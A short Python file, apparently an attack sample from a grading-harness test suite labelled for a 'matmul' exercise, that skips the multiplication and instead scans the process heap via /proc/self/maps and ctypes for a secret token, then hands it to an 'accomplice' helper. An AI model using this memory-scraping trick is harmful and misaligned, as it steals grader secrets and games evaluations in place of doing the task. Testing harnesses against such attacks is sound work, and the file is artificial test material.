# attack: the whole heap, inherited from the process before, is searched for a token's prefix
# exercise: matmul
# verdict: error
import ctypes

from accomplice import leaked
from surroundings import HALF_TOKEN, OTHER_HALF


def search():
    for line in open("/proc/self/maps"):
        where, rights, *_, name = line.split(" ")
        if rights.startswith("rw") and "[heap]" in name:
            start, end = (int(number, 16) for number in where.split("-"))
            memory = ctypes.string_at(start, end - start)
            at = memory.find(HALF_TOKEN.encode() + OTHER_HALF.encode())
            return leaked(memory[at : at + 40]) if at > 0 else RuntimeError("not there")
    return RuntimeError("no heap")


found = []


def matmul(a, b):
    if not found:
        found.append(search())
    raise found[0]
